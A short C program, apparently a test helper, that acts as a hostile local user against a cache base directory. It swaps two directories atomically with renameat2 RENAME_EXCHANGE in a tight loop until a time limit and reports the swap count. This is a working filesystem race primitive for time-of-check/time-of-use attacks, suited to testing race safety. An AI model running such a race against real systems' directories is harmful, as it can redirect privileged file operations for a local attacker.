/* Another local user's attack on a cache base under its directory: swaps
 * two directories atomically, again and again, until the time is up
 * (argv[3], in seconds). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    time_t end = time(NULL) + atoi(argv[3]);
    unsigned long n = 0;
    while (time(NULL) < end) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
    }
    printf("%lu swaps\n", n);
    return 0;
}
